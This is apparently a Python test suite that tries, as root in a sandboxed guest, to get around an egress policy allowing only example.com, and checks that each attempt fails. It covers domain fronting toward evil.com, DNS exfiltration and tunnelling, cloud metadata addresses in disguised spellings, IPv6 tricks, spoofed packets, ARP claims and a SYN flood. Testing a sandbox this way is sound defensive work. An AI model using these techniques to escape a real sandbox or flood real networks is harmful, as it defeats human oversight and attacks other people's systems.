"""Every way out that the field has seen, tried as root inside a guest whose policy allows example.com and names below it.

Each function that is marked is one test; its name goes to the host, which knows what its servers saw of it.
"""

import os
import socket
import ssl
import struct
import sys
import time
import traceback
import urllib.request

SHARED = "93.184.216.34"  # where example.com, other.com and evil.com all are
STRANGER = "45.33.32.156"  # where nobody's name points
GATEWAY = "10.83.76.1"
OWN = "10.83.76.2"
PATIENCE = 20
TESTS = []


def way_out(test):
    """Marks what is tried. The host reads the marks, too, and misses what was not."""
    TESTS.append(test)
    return test


def resolve(name):
    return socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]


def unresolved(name):
    try:
        address = resolve(name)
    except socket.gaierror:
        return
    raise AssertionError(f"{name} is {address}")


def refused(address, port, family=socket.AF_INET):
    """No connection, and an error at once rather than silence."""
    with socket.socket(family, socket.SOCK_STREAM) as stream:
        stream.settimeout(PATIENCE)
        try:
            stream.connect((address, port))
        except TimeoutError:
            raise AssertionError(f"{address} port {port}: silence") from None
        except OSError:
            return
    raise AssertionError(f"{address} port {port} was reached")


def udp_refused(address, port, payload=b"hello"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(PATIENCE)
        datagrams.connect((address, port))
        datagrams.send(payload)
        try:
            answer = datagrams.recv(2048)
        except TimeoutError:
            raise AssertionError(f"{address} port {port}: silence") from None
        except OSError:
            return
    raise AssertionError(f"{address} port {port} answered {answer!r}")


def question(name, kind=1, number=7):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def ask(name, kind):
    """The response code and the number of answers."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(PATIENCE)
        datagrams.sendto(question(name, kind), (GATEWAY, 53))
        answer = datagrams.recv(2048)
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]


def http_answer(address, request, port=80):
    with socket.create_connection((address, port), timeout=PATIENCE) as stream:
        stream.sendall(request.encode())
        try:
            return stream.recv(4096).decode()
        except ConnectionResetError:
            return "reset"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(payload, protocol, to, source=OWN, flags=0, offset=0):
    head = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, flags << 13 | offset, 64, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(to),
    )
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def udp(port, payload, from_port=5555):
    # Without a checksum, as IPv4 allows.
    return struct.pack(">HHHH", from_port, port, 8 + len(payload), 0) + payload


def syn(port, from_port, to, source=OWN):
    segment = struct.pack(">HHIIBBHHH", from_port, port, 1, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack(">BBH", 0, 6, len(segment))
    return segment[:16] + struct.pack(">H", checksum(pseudo + segment)) + segment[18:]


class Card:
    """Whole frames, past everything that the kernel checks."""

    OWN = bytes.fromhex("02534c000002")
    GATEWAY = bytes.fromhex("02534c000001")

    def __init__(self):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.socket.bind(("eth0", 0))

    def send(self, payload, source=OWN, kind=0x0800, to=GATEWAY):
        self.raw(to + source + struct.pack(">H", kind) + payload)

    def raw(self, frame):
        for _ in range(1000):
            try:
                return self.socket.send(frame)
            except OSError:  # the queue is full: the gateway takes its time with rubbish
                time.sleep(0.01)


def still_works():
    """The gateway is there, after whatever was done to it."""
    deadline = time.monotonic() + 60
    while True:
        try:
            with urllib.request.urlopen("http://example.com/still", timeout=PATIENCE) as answer:
                assert answer.status == 200
                return
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.2)


@way_out
def what_is_allowed_works():
    assert resolve("example.com") == SHARED and resolve("www.example.com") == SHARED
    still_works()
    context = ssl._create_unverified_context()
    with urllib.request.urlopen("https://example.com/sealed", timeout=PATIENCE, context=context) as answer:
        assert b"GET /sealed" in answer.read()


@way_out
def a_raw_address():
    for port in (22, 80, 443, 8080):
        refused(STRANGER, port)


@way_out
def another_port_of_an_allowed_name():
    resolve("example.com")
    refused(SHARED, 22)
    refused(SHARED, 8080)


@way_out
def an_allowed_address_with_another_name_in_sni():
    resolve("example.com")
    context = ssl._create_unverified_context()
    for name in ("other.com", "evil.com", None):
        with socket.create_connection((SHARED, 443), timeout=PATIENCE) as stream:
            try:
                context.wrap_socket(stream, server_hostname=name)
            except OSError:
                continue
        raise AssertionError(f"{name} was reached")


@way_out
def a_host_that_differs_from_sni():
    """With the allowed name outside it passes: sealed TLS is not looked into, and the address serves both."""
    resolve("example.com")
    context = ssl._create_unverified_context()
    with socket.create_connection((SHARED, 443), timeout=PATIENCE) as stream:
        with context.wrap_socket(stream, server_hostname="example.com") as sealed:
            sealed.sendall(b"GET /sealed-front HTTP/1.1\r\nHost: evil.com\r\n\r\n")
            assert b"200" in sealed.recv(4096)
    with socket.create_connection((SHARED, 443), timeout=PATIENCE) as stream:
        try:
            sealed = context.wrap_socket(stream, server_hostname="evil.com")
            sealed.sendall(b"GET /fronted HTTP/1.1\r\nHost: example.com\r\n\r\n")
        except OSError:
            return
    raise AssertionError("evil.com was reached")


@way_out
def another_host_in_http():
    resolve("example.com")
    for host in ("other.com", "evil.com", "169.254.169.254", "example.com.evil.com"):
        answer = http_answer(SHARED, f"GET /fronted HTTP/1.1\r\nHost: {host}\r\n\r\n")
        assert "200" not in answer.split("\r\n")[0], answer


@way_out
def another_name_in_a_slow_greeting():
    resolve("example.com")
    for port, pieces in (
        (80, (b"G", b"ET /slow HTTP/1.1\r\nHost: evil.com\r\n\r\n")),
        (80, (b"\r\n", b"BREW /slow", b" HTTP/1.1\r\nHost: evil.com\r\n\r\n")),
        (443, (b"\x16", b"\x15\x03\x01\0\x02")),
    ):
        with socket.create_connection((SHARED, port), timeout=PATIENCE) as stream:
            try:
                for piece in pieces:
                    stream.sendall(piece)
                    time.sleep(0.5)
                answer = stream.recv(4096)
            except OSError:
                continue
        assert b"200" not in answer.split(b"\r\n")[0], answer


@way_out
def another_protocol_on_the_port_of_http():
    resolve("example.com")
    answer = http_answer(SHARED, "SSH-2.0-tunnel\r\n", 443)
    assert answer in ("", "reset"), answer


@way_out
def a_connect_relay():
    resolve("example.com")
    for request in ("CONNECT other.com:443 HTTP/1.1\r\nHost: example.com", "GET http://other.com/relayed HTTP/1.1\r\nHost: example.com"):
        answer = http_answer(SHARED, request + "\r\n\r\n")
        assert "200" not in answer.split("\r\n")[0], answer


@way_out
def a_redirect_to_a_private_host():
    try:
        urllib.request.urlopen("http://example.com/redirect", timeout=PATIENCE)
    except OSError:
        return
    raise AssertionError("the redirect was followed")


@way_out
def dns_of_a_refused_name():
    for name in ("evil.com", "c2VjcmV0.evil.com", "example.com.evil.com", "notexample.com"):
        unresolved(name)


@way_out
def dns_to_another_server():
    for server in ("8.8.8.8", "1.1.1.1", SHARED, STRANGER, "9.9.9.9"):
        udp_refused(server, 53, question("leak.example.com"))
        refused(server, 53)
    refused("1.1.1.1", 853)
    refused("1.1.1.1", 443)
    refused("8.8.8.8", 443)


@way_out
def dns_records_that_carry_data():
    for kind in (16, 10, 255, 252, 15, 33, 12):  # TXT, NULL, ANY, AXFR, MX, SRV, PTR
        code, answers = ask("txt.example.com", kind)
        assert answers == 0 and code != 0, (kind, code, answers)


@way_out
def dns_with_long_labels():
    unresolved("a" * 60 + ".example.com")
    unresolved(".".join(["abcdefghij"] * 14) + ".example.com")


@way_out
def rebinding():
    for name in ("rebind.example.com", "private.example.com", "loopback.example.com", "own.example.com"):
        unresolved(name)
    refused("169.254.169.254", 80)


@way_out
def metadata_by_all_its_addresses():
    for address in ("169.254.169.254", "169.254.170.2", "169.254.170.23", "100.100.100.200", "192.0.0.192", "168.63.129.16"):
        refused(address, 80)
    for spelling in ("2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.16689662"):
        refused(spelling, 80)
    for name in ("metadata.google.internal", "metadata", "instance-data"):
        unresolved(name)


@way_out
def private_addresses():
    for address in ("10.0.0.1", "172.17.0.1", "192.168.1.1", "100.64.0.1", "198.18.0.1", "224.0.0.1", "240.0.0.1", "0.0.0.1"):
        refused(address, 80)


@way_out
def the_host_the_daemon_and_other_sandboxes():
    for port in (22, 80, 443, 5300, 8080):
        refused(GATEWAY, port)
    for address in ("10.83.76.3", "10.83.77.1", "10.83.77.2"):
        refused(address, 80)


@way_out
def ipv6_and_its_disguises():
    for address in (
        "2606:2800:220:1::1", "::ffff:169.254.169.254", "::ffff:45.33.32.156", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1",
        "fd00:ec2::254", "::169.254.169.254", "fe80::1%eth0",
    ):
        try:
            where = socket.getaddrinfo(address, 80, socket.AF_INET6, socket.SOCK_STREAM)[0][4]
        except OSError:
            continue
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as stream:
            stream.settimeout(PATIENCE)
            try:
                stream.connect(where)
            except OSError:
                continue
        raise AssertionError(f"{address} was reached")


@way_out
def ipv6_frames():
    card = Card()
    to = socket.inet_pton(socket.AF_INET6, "64:ff9b::a9fe:a9fe")
    head = struct.pack(">IHBB", 6 << 28, 8, 17, 64) + socket.inet_pton(socket.AF_INET6, "fe80::2") + to
    card.send(head + udp(80, b""), kind=0x86DD)
    still_works()


@way_out
def plain_udp():
    for port in (123, 9999, 5353):
        udp_refused(STRANGER, port)
        udp_refused(SHARED, port)


@way_out
def quic():
    resolve("example.com")
    udp_refused(SHARED, 443, b"\xc0\0\0\0\1" + bytes(1195))


@way_out
def icmp():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as icmp:
        icmp.settimeout(PATIENCE)
        for address, reachable in ((GATEWAY, True), (STRANGER, False), ("169.254.169.254", False)):
            echo = struct.pack(">BBHHH", 8, 0, 0, 77, 1) + b"tunnelled"
            echo = echo[:2] + struct.pack(">H", checksum(echo)) + echo[4:]
            icmp.sendto(echo, (address, 0))
            while True:
                answer = icmp.recv(2048)[20:]
                if answer[0] in (0, 3):
                    break
            assert (answer[0] == 0) == reachable, (address, answer)


@way_out
def other_ip_protocols():
    card = Card()
    for protocol in (2, 4, 41, 47, 50, 132):
        card.send(packet(b"\0" * 40, protocol, STRANGER))
    still_works()


@way_out
def a_spoofed_hardware_address():
    card = Card()
    asked = question("spoofed-mac.example.com")
    card.send(packet(udp(53, asked), 17, GATEWAY), source=bytes.fromhex("02534c0000aa"))
    still_works()


@way_out
def a_spoofed_address():
    card = Card()
    asked = question("spoofed-ip.example.com")
    for source in ("10.83.76.9", GATEWAY, STRANGER, "127.0.0.1"):
        card.send(packet(udp(53, asked), 17, GATEWAY, source=source))
        card.send(packet(syn(80, 6000, SHARED, source), 6, SHARED, source=source))
    still_works()


@way_out
def arp_for_others():
    card = Card()
    for address in ("10.83.76.3", STRANGER, "169.254.169.254"):
        asking = struct.pack(">HHBBH", 1, 0x0800, 6, 4, 1) + Card.OWN + socket.inet_aton(OWN)
        card.send(asking + bytes(6) + socket.inet_aton(address), kind=0x0806, to=b"\xff" * 6)
    # Claiming to be the gateway changes nobody's mind.
    claim = struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + Card.OWN + socket.inet_aton(GATEWAY)
    card.send(claim + Card.GATEWAY + socket.inet_aton(GATEWAY), kind=0x0806, to=b"\xff" * 6)
    still_works()


@way_out
def malformed_and_oversized_frames():
    card = Card()
    noise = os.urandom(16_000)
    for length in (0, 1, 13, 14, 20, 33, 34, 60, 1500, 15_900):
        card.raw((Card.GATEWAY + Card.OWN + b"\x08\0" + noise)[: max(length, 14)])
        card.send(noise[:length])
        card.send(packet(noise[:length], 6, SHARED)[: length + 10])
        card.send(packet(noise[: min(length, 1000)], 17, GATEWAY))
    still_works()


@way_out
def fragments():
    card = Card()
    asked = udp(53, question("fragmented.example.com"))
    card.send(packet(asked[:16], 17, GATEWAY, flags=1))
    card.send(packet(asked[16:], 17, GATEWAY, offset=2))
    card.send(packet(syn(80, 6001, SHARED), 6, SHARED, flags=1))
    still_works()


@way_out
def half_open_connections():
    resolve("example.com")
    silent = [socket.create_connection((SHARED, 443), timeout=PATIENCE) for _ in range(40)]
    still_works()
    for stream in silent:
        stream.close()


@way_out
def a_syn_flood():
    resolve("example.com")
    card = Card()
    for number in range(1500):
        card.send(packet(syn(443, 10_000 + number, SHARED), 6, SHARED))
    still_works()


@way_out
def a_dns_tunnel_through_an_allowed_name():
    """Many new names below an allowed one: how a tunnel would look. Few of them leave."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(2)
        for number in range(700):
            datagrams.sendto(question(f"tunnel{number}.example.com", 1, number), (GATEWAY, 53))
            if number % 50 == 0:
                time.sleep(0.05)
        answered = 0
        try:
            while True:
                answer = datagrams.recv(2048)
                answered += answer[3] & 15 == 0
        except TimeoutError:
            pass
    assert answered < 500, answered


failed = 0
for test in TESTS:
    try:
        test()
        print("ok", test.__name__, flush=True)
    except BaseException:
        failed += 1
        print("FAILED", test.__name__, flush=True)
        traceback.print_exc(file=sys.stdout)
sys.exit(1 if failed else 0)
